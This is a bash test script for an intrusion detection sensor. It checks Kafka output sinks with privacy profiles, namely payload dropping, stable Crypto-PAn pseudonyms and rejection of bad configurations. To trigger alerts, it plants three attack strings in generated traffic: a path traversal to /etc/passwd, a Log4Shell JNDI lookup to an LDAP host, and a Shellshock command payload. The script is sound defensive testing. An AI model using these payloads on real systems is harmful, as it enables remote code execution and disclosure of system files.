#!/bin/bash
# Privacy profiles: a national-SOC sink (payload dropped, $HOME_NET
# pseudonymised with Crypto-PAn) and an enterprise sink (everything) side
# by side from one sensor; the pseudonyms stay the same across a restart;
# bad profiles exit 2 naming the key.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/kafka-lib.sh"
need_kafka_tools
PCHECK="python3 $(dirname "$0")/privacy_check.py"

PCAP=$WORK/sample.pcap
"$GEN_TRAFFIC" -o "$PCAP" --flows 200 --seed 1 \
	--plant '../../../../etc/passwd@3:20' \
	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
	--plant '() { :; }; /bin/bash -c id@11:40' >/dev/null 2>&1 || { fail "gen-traffic"; finish; }
# alerts in both directions of many flows: both inside and outside addresses
cat >"$WORK/many.rules" <<'R'
alert tcp any any -> any any (msg:"MAMORI TEST every TCP payload"; flow:established; dsize:>0; sid:9100001; rev:1;)
R
python3 -c 'import os; print(os.urandom(32).hex())' >"$WORK/cryptopan.key"

mock_start --topic national:32 --topic enterprise:32 || { fail "mock start"; finish; }
cat >"$WORK/m.yaml" <<Y
vars:
  address-groups:
    HOME_NET: "[192.168.0.0/16,10.0.0.0/8]"
privacy-profiles:
  national-soc:
    drop-payload: yes
    drop-packet: yes
    pseudonymise: [\$HOME_NET]
    key-file: $WORK/cryptopan.key
outputs:
  eve-log:
    alert:
      payload: yes
  kafka:
    - brokers: "$KAFKA_BOOTSTRAP"
      topic: national
      profile: national-soc
    - brokers: "$KAFKA_BOOTSTRAP"
      topic: enterprise
Y
run() {  # LOGDIR
	"$MAMORI" -q -c "$WORK/m.yaml" -r "$PCAP" -S "$TOP_SRCDIR/rules/mamori.rules" \
		-S "$WORK/many.rules" -l "$1" >"$1.log" 2>&1
}
run "$WORK/o1"
check_eq "run with two sinks exits 0" 0 $?
consume national >"$WORK/n1.txt"
consume enterprise '%k\t%h\t%s\n' >"$WORK/e1.txt"
$PCHECK "$WORK/o1/eve.json" "$WORK/n1.txt" "192.168.0.0/16,10.0.0.0/8" "$WORK/map1" >"$WORK/c1" 2>&1
check_eq "national sink: payload gone, HOME_NET pseudonymised, the rest as is" 0 $?
cat "$WORK/c1"
python3 "$(dirname "$0")/kafka_check.py" "$WORK/o1/eve.json" "$WORK/e1.txt" >"$WORK/c2" 2>&1
check_eq "enterprise sink beside it: eve.json's records unchanged" 0 $?
grep -v '^ok' "$WORK/c2"

# a restart with the same key file: the same pseudonyms
run "$WORK/o2"
check_eq "second run exits 0" 0 $?
consume national >"$WORK/n2all.txt"
# the topic holds both runs: keep the second run's records (its flow ids)
python3 - "$WORK/o2/eve.json" "$WORK/n2all.txt" >"$WORK/n2.txt" <<'PY'
import json, sys
ids = {json.loads(l)["flow_id"] for l in open(sys.argv[1]) if '"event_type":"alert"' in l}
for l in open(sys.argv[2]):
    if l.strip() and json.loads(l)["flow_id"] in ids:
        sys.stdout.write(l)
PY
$PCHECK "$WORK/o2/eve.json" "$WORK/n2.txt" "192.168.0.0/16,10.0.0.0/8" "$WORK/map2" \
	"$WORK/map1" >"$WORK/c3" 2>&1
check_eq "pseudonyms stable across a restart" 0 $?
grep -E 'FAIL|stable' "$WORK/c3"

# ---- bad profiles exit 2 naming the key ------------------------------------
expect2() {  # DESCRIPTION KEY
	"$MAMORI" -T -c "$WORK/b.yaml" >"$WORK/e.out" 2>&1
	local rc=$?
	if [ $rc -eq 2 ] && grep -q -- "$2" "$WORK/e.out"; then ok "$1"
	else fail "$1: rc $rc: $(cat "$WORK/e.out")"; fi
}
bad() {  # PROFILE-BODY SINK-PROFILE
	printf 'privacy-profiles:\n  p:\n%s\noutputs:\n  kafka:\n    - brokers: "a:9092"\n      topic: t\n      profile: %s\n' "$1" "$2" >"$WORK/b.yaml"
}
bad "    drop-payload: yes" nosuch
expect2 "unknown profile" "outputs.kafka.0.profile"
bad "    pseudonymise: [\$HOME_NET]
    key-file: $WORK/no-such.key" p
expect2 "missing key file" "privacy-profiles.p.key-file"
bad "    pseudonymise: [\$HOME_NET]" p
expect2 "pseudonymise without a key file" "privacy-profiles.p.key-file"
bad "    pseudonymise: [10.0.0.0/33]
    key-file: $WORK/cryptopan.key" p
expect2 "bad network" "privacy-profiles.p.pseudonymise.0"
bad "    pseudonymise: [\$NO_SUCH_VAR]
    key-file: $WORK/cryptopan.key" p
expect2 "unknown variable" "privacy-profiles.p.pseudonymise.0"
bad "    drop-payload: perhaps" p
expect2 "bad boolean" "privacy-profiles.p.drop-payload"

mock_stop
finish
